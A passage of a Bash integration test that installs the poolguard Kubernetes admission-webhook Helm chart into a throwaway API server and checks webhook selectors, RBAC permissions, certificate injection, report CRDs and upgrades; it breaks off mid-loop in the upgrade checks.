#!/usr/bin/env bash
# Install charts/poolguard with a real helm into a throwaway kube-apiserver on loopback
# (integration/controlplane) and check what only a real API server can tell:
#
#   * every rendered object of modes self, provided and the optional switches passes the API
#     server's validation (server-side dry run; certManager and ServiceMonitor need CRDs the
#     throwaway cluster does not have, so those are only rendered, by lint.sh);
#   * the namespaceSelectors: with no poolguard pod behind the Service (no controllers run here)
#     the webhooks fail closed, so a pod is refused exactly where a webhook applies: in a
#     labelled namespace (mutating + validating; also one labelled with a placement chooseValue,
#     agentpool=auto), in an unlabelled one (validating, all namespaces by default; allowed with
#     validating.failurePolicy=Ignore, unless config.placement.unlabelledNamespaces=choose sends
#     it to the mutating webhook), never in the release namespace or kube-system;
#   * RBAC grants exactly what the chart README says (kubectl auth can-i as poolguard's
#     ServiceAccount), including the node watch, the background audit's reads, reports and Lease;
#   * the real write path of mode self: `poolguard serve` runs on loopback with the Deployment's
#     arguments, as poolguard's ServiceAccount (a kubeconfig with a token from the TokenRequest
#     API), creates its certificate Secret and injects the CA into both webhook configurations:
#     every caBundle equals the Secret's ca.crt, and every other field of the configurations
#     (including a matchCondition another field manager added) is unchanged (a binary without a
#     flag the Deployment passes stops the test here, naming the flags); its node watch cache
#     syncs under the chart's RBAC;
#   * that injected caBundle survives `helm upgrade`;
#   * a first install cannot block the cluster (webhook.registration=poolguard, the default): the
#     configurations are installed with no webhooks, so with no poolguard running (as with an
#     image that cannot be pulled) pods are admitted everywhere; poolguard, run with the
#     Deployment's arguments as its ServiceAccount, registers nothing while its Service has no
#     ready endpoint, then exactly the webhooks the chart renders with webhook.registration=chart
#     (with its CA bundle), which are then in effect, and the new ones after a helm upgrade;
#   * the background audit's report CRDs: created by `helm install`, a report with every field
#     poolguard writes is stored and read back unpruned (PolicyReport, ClusterPolicyReport and, after
#     an upgrade to audit.reportApi=openreports, Report), another owner's CRD is left alone by
#     the chart, CRDs that leave the release and `helm uninstall` keep them;
#   * `helm uninstall` leaves no webhook configuration behind (and, as documented, the Secret
#     poolguard created at run time stays).
#
#   bash integration/helm/install-test.sh      # HELM=/path/to/helm, POOLGUARD_CP_BIN=dir to reuse
#
# Needs jq, openssl, base64 and a poolguard binary (POOLGUARD_BIN, else $CARGO_TARGET_DIR or
# target/, debug or release; `cargo test` builds one); without one it fails at once.
#
# Prints "N passed, N failed" at the end; exits non-zero on any failure.
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")/../.."

log() { printf '[helm-install] %s\n' "$*" >&2; }
die() { log "FAIL: $*"; exit 1; }

for cmd in jq openssl base64; do
    command -v "$cmd" >/dev/null 2>&1 || die "$cmd is required"
done
# shellcheck source=integration/helm/poolguard-bin.sh
source integration/helm/poolguard-bin.sh
poolguard="$(poolguard_bin)"
[[ -n "$poolguard" ]] \
    || die "no poolguard binary (set POOLGUARD_BIN or build one: cargo build --bin poolguard)"
poolguard="$(cd "$(dirname "$poolguard")" && pwd)/$(basename "$poolguard")"

chart=charts/poolguard
release=poolguard
ns="poolguard-system"
# The serving pods' identity, and the controller's (which writes what poolguard writes).
sa="system:serviceaccount:${ns}:poolguard"
csa="system:serviceaccount:${ns}:poolguard-controller"
helm="${HELM:-$(bash integration/helm/helm.sh | tail -n1)}"

state="$(bash integration/controlplane/start.sh | tail -n1)"
pg_pid="" controller_pid=""
cleanup() {
    local pid
    for pid in "$pg_pid" "$controller_pid"; do
        if [[ -n "$pid" ]] && kill -0 "$pid" 2>/dev/null; then
            kill -TERM "$pid" 2>/dev/null
            wait "$pid" 2>/dev/null
        fi
    done
    bash integration/controlplane/stop.sh "$state" --purge >/dev/null 2>&1 || true
}
trap cleanup EXIT
cmd_out="${state}/cmd.out"
# shellcheck source=/dev/null
source "${state}/env"
export KUBECONFIG
kubectl() { "${POOLGUARD_CP_BIN}/kubectl" --request-timeout=20s "$@"; }
helm() { "$helm" --kubeconfig "$KUBECONFIG" "$@"; }

passed=0
failed=0
ok() { passed=$((passed + 1)); log "ok: $*"; }
bad() { failed=$((failed + 1)); log "FAIL: $*"; }
expect() { # description command... (must succeed)
    local what="$1"; shift
    if "$@" >"$cmd_out" 2>&1; then ok "$what"; else bad "$what: $(tail -n3 "$cmd_out")"; fi
}
expect_not() { # description reason command... (must fail, with reason in its output)
    local what="$1" reason="$2"; shift 2
    if "$@" >"$cmd_out" 2>&1; then
        bad "$what (succeeded)"
    elif grep -qF -- "$reason" "$cmd_out"; then
        ok "$what (${reason})"
    else
        bad "$what: failed, but not with '${reason}': $(tail -n3 "$cmd_out")"
    fi
}
can_i_as() { # serviceaccount yes|no verb resource [args...]
    local who="$1" want="$2"; shift 2
    local got
    got="$(kubectl auth can-i --as="$who" "$@" 2>/dev/null || true)"
    if [[ "$got" == "$want" ]]; then ok "${who##*:}: can-i $* = $want"; else bad "${who##*:}: can-i $* = '${got}', want ${want}"; fi
}
can_i() { can_i_as "$csa" "$@"; }     # the controller
serving_can_i() { can_i_as "$sa" "$@"; }
# A pod that needs no controller: created and stored, never scheduled.
run_pod() { # namespace name
    kubectl -n "$1" run "$2" --image=registry.example.com/pause:3.10 --restart=Never \
        --overrides='{"spec":{"automountServiceAccountToken":false}}'
}

kubectl create namespace "$ns" >/dev/null
for n in team-a team-auto plain; do kubectl create namespace "$n" >/dev/null; done
kubectl label namespace team-a agentpool=pool1 >/dev/null
# A namespace whose pods get their pool chosen (config.placement.chooseValue auto).
kubectl label namespace team-auto agentpool=auto >/dev/null
# No controller-manager here: create the default ServiceAccounts pods refer to.
for n in "$ns" kube-system team-a team-auto plain; do
    kubectl -n "$n" create serviceaccount default >/dev/null 2>&1 || true
done

# --- server-side validation of the modes the throwaway cluster has the APIs for ---------------
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 1 \
    -subj /CN=poolguard-test-ca -keyout "${state}/test-ca.key" -out "${state}/test-ca.crt" 2>/dev/null
ca_pem="$(cat "${state}/test-ca.crt")"
for args in "" \
    "--set certificates.mode=provided --set certificates.secretName=serving --set-string certificates.caBundle=$(printf '%s\n' "$ca_pem" | base64 -w0)" \
    "-f ${chart}/ci/policies-values.yaml" \
    "-f ${chart}/ci/placement-values.yaml" \
    "-f ${chart}/ci/options-values.yaml --set serviceMonitor.enabled=false" \
    "--set audit.interval=0" \
    "--set audit.reportApi=openreports"; do
    # shellcheck disable=SC2086 # plain words
    expect "server-side dry run: $(cut -c1-90 <<<"${args:-defaults}")" \
        bash -c "\"$helm\" template $release $chart -n $ns $args | \"${POOLGUARD_CP_BIN}/kubectl\" apply --dry-run=server -f -"
done

# --- install (mode self) -----------------------------------------------------------------------
out="${POOLGUARD_HELM_OUT:-target/helm}"
mkdir -p "$out"
expect "helm install" helm install "$release" "$chart" -n "$ns"
cp "$cmd_out" "${out}/install-notes.txt"
if grep -q 'kubectl label namespace team-a agentpool=pool1' "${out}/install-notes.txt" \
    && grep -q "jsonpath='{.spec.nodeSelector}'" "${out}/install-notes.txt"; then
    ok "NOTES explain labelling and checking (saved to ${out}/install-notes.txt)"
else
    bad "NOTES lack the label/check instructions (${out}/install-notes.txt)"
fi
expect "MutatingWebhookConfiguration exists" kubectl get mutatingwebhookconfiguration poolguard-mutating
expect "ValidatingWebhookConfiguration exists" kubectl get validatingwebhookconfiguration poolguard-validating

# --- a first install cannot block the cluster (webhook.registration=poolguard, the default) ------
# No poolguard pod ever runs here (no kubelet), as when the image cannot be pulled: the
# configurations exist with no webhooks, so nothing is refused, labelled namespace or not.
webhook_count() { # kind name -> number of webhooks
    kubectl get "$1" "$2" -o json | jq '.webhooks // [] | length'
}
for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
    name="poolguard-${kind%%webhookconfiguration}"
    count="$(webhook_count "$kind" "$name")"
    if [[ "$count" == 0 ]]; then ok "${name}: installed with no webhooks (poolguard registers them once it serves)"; else bad "${name}: installed with ${count} webhooks"; fi
done
expect "ConfigMap poolguard-webhooks holds the webhooks to register" kubectl -n "$ns" get configmap poolguard-webhooks
expect "first install, no poolguard running: pod in labelled namespace team-a is admitted" run_pod team-a first
expect "first install, no poolguard running: pod in namespace team-auto (agentpool=auto) is admitted" run_pod team-auto first
expect "first install, no poolguard running: pod in an unlabelled namespace is admitted" run_pod plain first

# The rest of this test, up to "registration by poolguard" below, checks the webhooks themselves:
# the chart renders them (webhook.registration=chart), so they are in effect without a poolguard.
chart_mode=(--set webhook.registration=chart)
expect "helm upgrade (webhook.registration=chart)" helm upgrade "$release" "$chart" -n "$ns" "${chart_mode[@]}"
if [[ -z "$(kubectl get mutatingwebhookconfiguration poolguard-mutating -o jsonpath='{.webhooks[0].clientConfig.caBundle}')" ]]; then
    ok "mode self renders no caBundle"
else
    bad "mode self rendered a caBundle"
fi

# --- namespaceSelectors (no endpoints behind the Service: the webhooks fail closed) -------------
expect_not "pod in labelled namespace team-a is sent to poolguard (refused: no poolguard)" \
    'failed calling webhook "mutate.poolguard.io"' run_pod team-a p1
expect_not "pod in namespace team-auto (agentpool=auto, a placement chooseValue) is sent to poolguard (refused: no poolguard)" \
    'failed calling webhook "mutate.poolguard.io"' run_pod team-auto p1
expect_not "pod in unlabelled namespace is validated (refused: no poolguard, failurePolicy Fail)" \
    'failed calling webhook "validate.poolguard.io"' run_pod plain p1
expect "pod in the release namespace is never sent to poolguard" run_pod "$ns" p1
expect "pod in kube-system is never sent to poolguard" run_pod kube-system p1
expect "namespace operations are not matched" kubectl create namespace other

# --- RBAC ----------------------------------------------------------------------------------------
# The serving pods read, and write nothing but their admission counts into the rollout state: no
# admission configuration, RBAC, Secret, report, Lease or other ConfigMap.
serving_can_i yes watch namespaces
serving_can_i yes watch nodes
serving_can_i yes get namespaces/team-a
serving_can_i no patch mutatingwebhookconfigurations/poolguard-mutating
serving_can_i no patch validatingwebhookconfigurations/poolguard-validating
serving_can_i no get validatingwebhookconfigurations/poolguard-validating
serving_can_i no create validatingadmissionpolicies.admissionregistration.k8s.io
serving_can_i no create mutatingadmissionpolicies.admissionregistration.k8s.io
serving_can_i no patch validatingadmissionpolicybindings.admissionregistration.k8s.io/any
serving_can_i no create rolebindings.rbac.authorization.k8s.io -n kube-system
serving_can_i no create clusterrolebindings.rbac.authorization.k8s.io
serving_can_i no create secrets -n "$ns"
serving_can_i no get secrets/poolguard-tls -n "$ns"
serving_can_i no update secrets/poolguard-tls -n "$ns"
serving_can_i no list pods -A
serving_can_i no patch policyreports.wgpolicyk8s.io/poolguard-audit -n team-a
serving_can_i no create leases.coordination.k8s.io -n "$ns"
serving_can_i no update leases.coordination.k8s.io/poolguard-audit -n "$ns"
serving_can_i no list endpointslices.discovery.k8s.io -n "$ns"
serving_can_i no patch configmaps/poolguard-rollouts -n "$ns"
serving_can_i yes watch configmaps/poolguard-rollouts -n "$ns"
serving_can_i yes patch configmaps/poolguard-rollouts-counts -n "$ns"
serving_can_i no get configmaps/poolguard-rollouts-counts -n "$ns"
can_i yes get configmaps/poolguard-rollouts-counts -n "$ns"
can_i no patch configmaps/poolguard-rollouts-counts -n "$ns"
serving_can_i no create configmaps -n "$ns"
serving_can_i no patch configmaps/someone-elses -n "$ns"
serving_can_i no create events -n "$ns"
serving_can_i no create pods -n "$ns"
# Everything the serving pods' token may do, as the API server lists it (for the record).
log "kubectl auth can-i --list as ${sa} in ${ns}:"
kubectl auth can-i --list --as="$sa" -n "$ns" 2>/dev/null | sed 's/^/[helm-install]   /' >&2 || true
# The controller: the same reads, and what poolguard writes.
can_i yes watch namespaces
# The node watch cache (what each pool can do, for the placement policies), audit or not.
can_i yes watch nodes
can_i yes get nodes/any
can_i no patch nodes/any
can_i no delete nodes/any
can_i yes get namespaces/team-a
can_i no update namespaces/team-a
can_i yes patch mutatingwebhookconfigurations/poolguard-mutating
can_i yes patch validatingwebhookconfigurations/poolguard-validating
can_i no update validatingwebhookconfigurations/poolguard-validating
can_i no patch mutatingwebhookconfigurations/someone-else
can_i no list mutatingwebhookconfigurations
can_i no create validatingwebhookconfigurations
can_i no delete mutatingwebhookconfigurations/poolguard-mutating
can_i yes create secrets -n "$ns"
can_i yes update secrets/poolguard-tls -n "$ns"
can_i no patch secrets/poolguard-tls -n "$ns"
can_i no watch secrets/poolguard-tls -n "$ns"
can_i no get secrets/someone-elses -n "$ns"
can_i no list secrets -n "$ns"
can_i no create secrets -n default
can_i no create pods -n "$ns"
# The background audit (on by default): reads Pods, workloads and nodes (nodes also watched,
# above), never watches or writes Pods or workloads; writes its reports; elects its runner with
# one Lease of the release namespace.
can_i yes list pods -A
can_i yes get replicationcontrollers/web -n team-a
can_i yes list deployments.apps -A
can_i yes list statefulsets.apps -A
can_i yes list cronjobs.batch -A
can_i yes list nodes
can_i no watch pods -A
can_i no update deployments.apps/web -n team-a
can_i no delete pods/web -n team-a
can_i yes patch policyreports.wgpolicyk8s.io/poolguard-audit -n team-a
can_i yes create policyreports.wgpolicyk8s.io -n team-a
can_i yes list policyreports.wgpolicyk8s.io -A
can_i yes delete policyreports.wgpolicyk8s.io/poolguard-audit -n plain
can_i no update policyreports.wgpolicyk8s.io/poolguard-audit -n team-a
# The cluster report (cluster-scoped objects the Gatekeeper constraints match).
can_i yes patch clusterpolicyreports.wgpolicyk8s.io/poolguard-audit
can_i yes delete clusterpolicyreports.wgpolicyk8s.io/poolguard-audit
can_i no update clusterpolicyreports.wgpolicyk8s.io/poolguard-audit
can_i no patch reports.openreports.io/poolguard-audit -n team-a
can_i no patch clusterreports.openreports.io/poolguard-audit
can_i yes create leases.coordination.k8s.io -n "$ns"
can_i yes update leases.coordination.k8s.io/poolguard-audit -n "$ns"
can_i no update leases.coordination.k8s.io/someone-else -n "$ns"
can_i no delete leases.coordination.k8s.io/poolguard-audit -n "$ns"
can_i no create leases.coordination.k8s.io -n default
can_i no list leases.coordination.k8s.io -n "$ns"
can_i no watch leases.coordination.k8s.io -n "$ns"
# Progressive enforcement's state and its Events.
can_i yes patch configmaps/poolguard-rollouts -n "$ns"
can_i yes watch configmaps/poolguard-rollouts -n "$ns"
can_i yes list configmaps/poolguard-rollouts -n "$ns"
can_i no watch configmaps -n "$ns"
can_i no list configmaps -n "$ns"
can_i no watch configmaps/someone-elses -n "$ns"
can_i no patch configmaps/someone-elses -n "$ns"
can_i no delete configmaps/poolguard-rollouts -n "$ns"
can_i no create configmaps -n default
can_i yes create events.events.k8s.io -n "$ns"
can_i no create events -n default

# --- the background audit's report CRDs ----------------------------------------------------------
sample=integration/helm/testdata/policyreport-sample.json
crd_meta() { # crd -> "<release-name annotation> <resource-policy annotation>"
    kubectl get crd "$1" -o jsonpath='{.metadata.annotations.meta\.helm\.sh/release-name} {.metadata.annotations.helm\.sh/resource-policy}'
}
crd_is_ours() { # crd
    local got
    got="$(crd_meta "$1" 2>&1)"
    if [[ "$got" == "${release} keep" ]]; then ok "CRD $1 is this release's and kept on uninstall"; else bad "CRD $1 annotations: '${got}'"; fi
}
report_view() { # the fields a report's writer sets (no server-side bookkeeping)
    jq -S '.metadata |= {name, labels, annotations}'
}
round_trip() { # apiVersion kind namespace(empty: cluster-scoped) [report-level source]
    local api="$1" kind="$2" namespace="$3" source="${4:-}" file="${state}/report-${2}.json" nsarg=()
    [[ -n "$namespace" ]] && nsarg=(-n "$namespace")
    jq --arg api "$api" --arg kind "$kind" --arg source "$source" \
        '.apiVersion = $api | .kind = $kind | if $source != "" then .source = $source else . end' \
        "$sample" >"$file"
    if ! kubectl "${nsarg[@]}" create -f "$file" >"$cmd_out" 2>&1; then
        bad "${kind}: create a report with every field: $(tail -n3 "$cmd_out")"
        return
    fi
    if kubectl "${nsarg[@]}" get -f "$file" -o json | report_view | diff -u <(report_view <"$file") - >"$cmd_out"; then
        ok "${kind} ${api}: a report with every field poolguard writes reads back unchanged (nothing pruned)"
    else
        bad "${kind} ${api}: the stored report differs: $(head -n 20 "$cmd_out")"
    fi
}
for crd in policyreports.wgpolicyk8s.io clusterpolicyreports.wgpolicyk8s.io; do
    expect "CRD ${crd} is established" kubectl wait --for=condition=Established --timeout=30s "crd/${crd}"
    crd_is_ours "$crd"
done
round_trip wgpolicyk8s.io/v1alpha2 PolicyReport team-a
round_trip wgpolicyk8s.io/v1alpha2 ClusterPolicyReport ""
expect "kubectl get polr (short name, printer columns)" \
    bash -c "\"${POOLGUARD_CP_BIN}/kubectl\" get polr -n team-a poolguard-audit | grep -E '^NAME +PASS +FAIL +WARN +ERROR +SKIP +AGE'"

# Another tool's CRD of the same API (no helm ownership): an upgrade to openreports renders only
# the CRD that is missing and leaves that one as it is.
kubectl apply -f - >/dev/null <<'YAML'
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata:
  name: clusterreports.openreports.io
  labels:
    app.kubernetes.io/managed-by: another-tool
spec:
  group: openreports.io
  scope: Cluster
  names: {kind: ClusterReport, listKind: ClusterReportList, plural: clusterreports, singular: clusterreport}
  versions:
    - name: v1alpha1
      served: true
      storage: true
      schema:
        openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}
YAML
foreign_before="$(kubectl get crd clusterreports.openreports.io -o json | jq -S '{labels: .metadata.labels, annotations: .metadata.annotations, spec}')"
expect "helm upgrade (audit.reportApi=openreports; another owner's clusterreports CRD exists)" \
    helm upgrade "$release" "$chart" -n "$ns" "${chart_mode[@]}" --set audit.reportApi=openreports
expect "CRD reports.openreports.io is established" kubectl wait --for=condition=Established --timeout=30s crd/reports.openreports.io
crd_is_ours reports.openreports.io
if kubectl get crd clusterreports.openreports.io -o json | jq -S '{labels: .metadata.labels, annotations: .metadata.annotations, spec}' |
    diff -u <(printf '%s\n' "$foreign_before") - >"$cmd_out"; then
    ok "another owner's CRD clusterreports.openreports.io is left as it was"
else
    bad "the chart changed another owner's CRD: $(head -n 20 "$cmd_out")"
fi
round_trip openreports.io/v1alpha1 Report team-a poolguard
can_i yes patch reports.openreports.io/poolguard-audit -n team-a
can_i yes patch clusterreports.openreports.io/poolguard-audit
can_i no patch policyreports.wgpolicyk8s.io/poolguard-audit -n team-a
can_i no patch clusterpolicyreports.wgpolicyk8s.io/poolguard-audit
expect "the PolicyReport CRD stays when it leaves the release (keep)" kubectl get crd policyreports.wgpolicyk8s.io
# --reset-values: an upgrade without values would reuse the previous ones.
expect "helm upgrade (back to the default values)" helm upgrade "$release" "$chart" -n "$ns" "${chart_mode[@]}" --reset-values
if helm get manifest "$release" -n "$ns" | grep -q '^  name: policyreports.wgpolicyk8s.io$'; then
    ok "the kept PolicyReport CRD is this release's again (rendered, managed by helm)"
else
    bad "the PolicyReport CRD is not in the release manifest after the upgrade back"
fi
crd_is_ours policyreports.wgpolicyk8s.io
expect "the stored PolicyReport survived the upgrades" kubectl -n team-a get policyreports.wgpolicyk8s.io poolguard-audit

# --- the real write path: poolguard --manage-certs as its ServiceAccount ---------------------------
# Another field manager adds a matchCondition to both configurations first: poolguard's write must
# keep what others own (whether it patches or applies).
# The chart's own conditions (webhook.skipUnchangedUpdates on the validating webhook) stay
# beside it.
marker='{"name": "install-test-marker", "expression": "true"}'
declare -A conditions_expected
for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
    name="poolguard-${kind%%webhookconfiguration}"
    chart_conditions="$(kubectl get "$kind" "$name" -o jsonpath='{.webhooks[0].matchConditions[*].name}')"
    if [[ -n "$chart_conditions" ]]; then
        patch="[{\"op\": \"add\", \"path\": \"/webhooks/0/matchConditions/-\", \"value\": ${marker}}]"
    else
        patch="[{\"op\": \"add\", \"path\": \"/webhooks/0/matchConditions\", \"value\": [${marker}]}]"
    fi
    conditions_expected[$kind]="${chart_conditions:+${chart_conditions} }install-test-marker"
    expect "another field manager adds a matchCondition to ${name}" \
        kubectl patch "$kind" "$name" --field-manager=install-test --type=json -p "$patch"
done
# What must survive: the configurations without caBundle and server-side bookkeeping.
config_view() { # kind name
    kubectl get "$1" "$2" -o json | jq -S 'del(.metadata.resourceVersion, .metadata.generation,
        .metadata.managedFields) | .webhooks[].clientConfig |= del(.caBundle)'
}
for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
    config_view "$kind" "poolguard-${kind%%webhookconfiguration}" >"${state}/${kind}.before.json"
done

# shellcheck source=integration/controlplane/free-port.sh
source integration/controlplane/free-port.sh
# Kubeconfigs for the two ServiceAccounts: everything below runs under the chart's RBAC.
sa_kubeconfig_for() { # serviceaccount -> kc: the kubeconfig's path
    local account="$1" token whoami
    kc="${state}/$1.kubeconfig"
    token="$(kubectl -n "$ns" create token "$account" --duration=1h)" || die "TokenRequest for ServiceAccount ${account} failed"
    sakc() { "${POOLGUARD_CP_BIN}/kubectl" --kubeconfig="$kc" "$@" >/dev/null; }
    sakc config set-cluster throwaway --server="$POOLGUARD_CP_APISERVER" --certificate-authority="$POOLGUARD_CP_CA" --embed-certs
    sakc config set-credentials "$account" --token="$token"
    sakc config set-context "$account" --cluster=throwaway --user="$account"
    sakc config use-context "$account"
    whoami="$("${POOLGUARD_CP_BIN}/kubectl" --kubeconfig="$kc" auth whoami -o jsonpath='{.status.userInfo.username}' 2>&1 || true)"
    if [[ "$whoami" == "system:serviceaccount:${ns}:${account}" ]]; then ok "${account}'s kubeconfig authenticates as ${whoami}"; else bad "${account}'s kubeconfig authenticates as '${whoami}'"; fi
}
sa_kubeconfig_for poolguard
sa_kubeconfig="$kc"
sa_kubeconfig_for poolguard-controller
csa_kubeconfig="$kc"

# The Deployment's ConfigMaps and container arguments, as files and arguments for a poolguard on
# loopback (read_deployment; run again after an upgrade).
read_deployment() { # deployment (poolguard: the serving pods; poolguard-controller)
    local deployment="$1"
    # Listen addresses on free loopback ports, the ConfigMaps' files where the pod would mount them.
    pg_dir="${state}/${deployment}"
    mkdir -p "${pg_dir}/config"
    kubectl -n "$ns" get configmap poolguard-config -o json | jq -j '.data["config.yaml"]' >"${pg_dir}/config/config.yaml"
    for dir in policies placement-policies webhooks; do
        # poolguard-webhooks exists with webhook.registration=poolguard only.
        [[ "$dir" != webhooks ]] || kubectl -n "$ns" get configmap poolguard-webhooks >/dev/null 2>&1 || continue
        mkdir -p "${pg_dir}/${dir}"
        policies_json="$(kubectl -n "$ns" get configmap "poolguard-${dir}" -o json)"
        while IFS= read -r key; do
            jq -j --arg k "$key" '.data[$k]' <<<"$policies_json" >"${pg_dir}/${dir}/${key}"
        done < <(jq -r '.data // {} | keys[]' <<<"$policies_json")
    done
    pg_port="" metrics_port="" # set by pick_port
    pick_port pg_port
    pick_port metrics_port
    args=()
    prev=""
    while IFS= read -r arg; do
        case "$prev" in
            --addr) arg="127.0.0.1:${pg_port}" ;;
            --metrics-addr) arg="127.0.0.1:${metrics_port}" ;;
            --config) arg="${pg_dir}${arg}" ;;
            --policies-dir) arg="${pg_dir}${arg}" ;;
            --placement-policies-dir) arg="${pg_dir}${arg}" ;;
            --register-webhooks) arg="${pg_dir}${arg}" ;;
            --tls-cert-file | --tls-key-file) arg="${pg_dir}${arg}" ;;
        esac
        args+=("$arg")
        prev="$arg"
    done < <(kubectl -n "$ns" get deployment "$deployment" -o json | jq -r '.spec.template.spec.containers[0].args[]')
}
# The TLS Secret's files where the serving pods mount it (/tls).
mount_tls_secret() {
    mkdir -p "${pg_dir}/tls"
    local key
    for key in tls.crt tls.key ca.crt; do
        kubectl -n "$ns" get secret poolguard-tls -o json | jq -r --arg k "$key" '.data[$k]' | base64 -d >"${pg_dir}/tls/${key}"
    done
}
arg_value() { # flag -> the argument after it in args
    local i
    for ((i = 0; i + 1 < ${#args[@]}; i++)); do
        [[ "${args[i]}" == "$1" ]] && { printf '%s\n' "${args[i + 1]}"; return 0; }
    done
}
# Starts poolguard with the Deployment's arguments (read_deployment first), as its ServiceAccount
# (a kubeconfig); its log is ${state}/<log>.log.
start_poolguard() { # kubeconfig log
    local kubeconfig="$1" log="$2"
    # A binary older than the chart's flags cannot run the Deployment's arguments: say which.
    serve_help="$("$poolguard" "${args[0]}" --help 2>&1 || true)"
    unknown=()
    for arg in "${args[@]}"; do
        [[ "$arg" == --* ]] || continue
        grep -qE -- "(^|[[:space:]])${arg%%=*}([[:space:]=]|$)" <<<"$serve_help" || unknown+=("$arg")
    done
    ((${#unknown[@]} == 0)) \
        || die "${poolguard} does not know the flags ${unknown[*]} that the chart's Deployment passes to poolguard ${args[0]} (build a poolguard that has them)"
    log "starting ${poolguard} ${args[*]}"
    # POD_NAME and POD_NAMESPACE as the downward API sets them in the pod.
    POD_NAME="${log}-install-test" POD_NAMESPACE="$ns" KUBECONFIG="$kubeconfig" \
        "$poolguard" "${args[@]}" </dev/null >"${state}/${log}.log" 2>&1 &
    pg_pid=$!
}
read_deployment poolguard-controller
[[ " ${args[*]} " == *" --manage-certs "* ]] || die "the controller does not run --manage-certs: ${args[*]}"
cert_secret="$(arg_value --cert-secret)"
[[ "$cert_secret" == "${ns}/poolguard-tls" ]] || die "--cert-secret is '${cert_secret}', expected ${ns}/poolguard-tls"
cert_dns="$(arg_value --cert-dns-name)"
start_poolguard "$csa_kubeconfig" controller
controller_pid=$pg_pid
injected() { # all caBundles of both configurations set, and the Secret there
    local kind
    kubectl -n "$ns" get secret poolguard-tls >/dev/null 2>&1 || return 1
    for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
        kubectl get "$kind" "poolguard-${kind%%webhookconfiguration}" -o json |
            jq -e '[.webhooks[].clientConfig.caBundle // ""] | all(. != "")' >/dev/null || return 1
    done
}
deadline=$((SECONDS + 60))
until injected; do
    if ! kill -0 "$pg_pid" 2>/dev/null || ((SECONDS >= deadline)); then
        tail -n 30 "${state}/controller.log" >&2
        die "poolguard controller did not create its Secret and inject the CA into both configurations within 60s"
    fi
    sleep 0.5
done
ok "poolguard controller created Secret ${cert_secret} and injected a caBundle into both configurations"
# The serving pods serve the certificate the controller keeps in the Secret (mounted), for the
# Service's name.
read_deployment poolguard
[[ " ${args[*]} " != *" --manage-certs "* && "$(arg_value --tls-cert-file)" == "${pg_dir}/tls/tls.crt" ]] \
    || die "the serving Deployment does not read its certificate from the mounted Secret: ${args[*]}"
mount_tls_secret
start_poolguard "$sa_kubeconfig" poolguard
kubectl -n "$ns" get secret poolguard-tls -o jsonpath='{.data.ca\.crt}' | base64 -d >"${state}/secret-ca.crt"
deadline=$((SECONDS + 30))
until served="$(openssl s_client -connect "127.0.0.1:${pg_port}" -servername "$cert_dns" -verify_hostname "$cert_dns" \
        -CAfile "${state}/secret-ca.crt" -verify_return_error </dev/null 2>&1)" &&
    grep -q 'Verify return code: 0 (ok)' <<<"$served"; do
    ((SECONDS < deadline)) || break
    sleep 0.5
done
if grep -q 'Verify return code: 0 (ok)' <<<"$served"; then
    ok "poolguard serves a certificate for ${cert_dns} that verifies against the Secret's ca.crt"
else
    bad "poolguard's certificate does not verify for ${cert_dns}: $(grep -E 'Verify return|error' <<<"$served" | head -n2)"
fi
# The node watch cache (placement policies' view of the pools) lists and watches Nodes under the
# chart's RBAC: synced, and no watch error.
deadline=$((SECONDS + 30))
until grep -q 'node cache synced' "${state}/poolguard.log" || ((SECONDS >= deadline)); do sleep 0.5; done
if grep -q 'node cache synced' "${state}/poolguard.log" && ! grep -q 'node watch failed' "${state}/poolguard.log"; then
    ok "poolguard's node watch cache synced as its ServiceAccount (list and watch on nodes)"
else
    bad "poolguard's node watch cache: $(grep -m2 -E 'node (cache|watch)' "${state}/poolguard.log" || echo 'no sync logged in 30s')"
fi
for pid_log in "${pg_pid}:poolguard" "${controller_pid}:controller"; do
    if kill -TERM "${pid_log%%:*}" && wait "${pid_log%%:*}"; then pg_rc=0; else pg_rc=$?; fi
    if ((pg_rc == 0)); then ok "poolguard (${pid_log#*:}) exited 0 on SIGTERM"; else bad "poolguard (${pid_log#*:}) exited ${pg_rc} on SIGTERM (log: ${state}/${pid_log#*:}.log)"; fi
done
pg_pid="" controller_pid=""

bundle="$(kubectl -n "$ns" get secret poolguard-tls -o jsonpath='{.data.ca\.crt}')"
[[ -n "$bundle" ]] || bad "Secret ${cert_secret} has no ca.crt"
for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
    name="poolguard-${kind%%webhookconfiguration}"
    got="$(kubectl get "$kind" "$name" -o json | jq -r '.webhooks[].clientConfig.caBundle' | sort -u)"
    if [[ -n "$bundle" && "$got" == "$bundle" ]]; then
        ok "${name}: every caBundle equals the Secret's ca.crt"
    else
        bad "${name}: caBundle(s) '${got:0:40}...' differ from the Secret's ca.crt '${bundle:0:40}...'"
    fi
    if config_view "$kind" "$name" | diff -u "${state}/${kind}.before.json" - >"$cmd_out"; then
        ok "${name}: every other field (rules, selectors, matchConditions, labels, ...) survived poolguard's write"
    else
        bad "${name}: poolguard's write changed more than the caBundle: $(head -n 20 "$cmd_out")"
    fi
done

# --- helm upgrade keeps the injected caBundle ----------------------------------------------------
expect "helm upgrade (timeoutSeconds 5 -> 7)" helm upgrade "$release" "$chart" -n "$ns" "${chart_mode[@]}" --set webhook.timeoutSeconds=7
for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
    name="poolguard-${kind%%webhookconfiguration}"
    got="$(kubectl get "$kind" "$name" -o jsonpath='{.webhooks[0].clientConfig.caBundle}')"
    timeout="$(kubectl get "$kind" "$name" -o jsonpath='{.webhooks[0].timeoutSeconds}')"
    if [[ "$got" == "$bundle" ]]; then ok "${name}: injected caBundle survives helm upgrade"; else bad "${name}: caBundle after upgrade is '${got:0:20}...'"; fi
    if [[ "$timeout" == 7 ]]; then ok "${name}: upgrade applied timeoutSeconds 7"; else bad "${name}: timeoutSeconds ${timeout}"; fi
    conditions="$(kubectl get "$kind" "$name" -o jsonpath='{.webhooks[0].matchConditions[*].name}')"
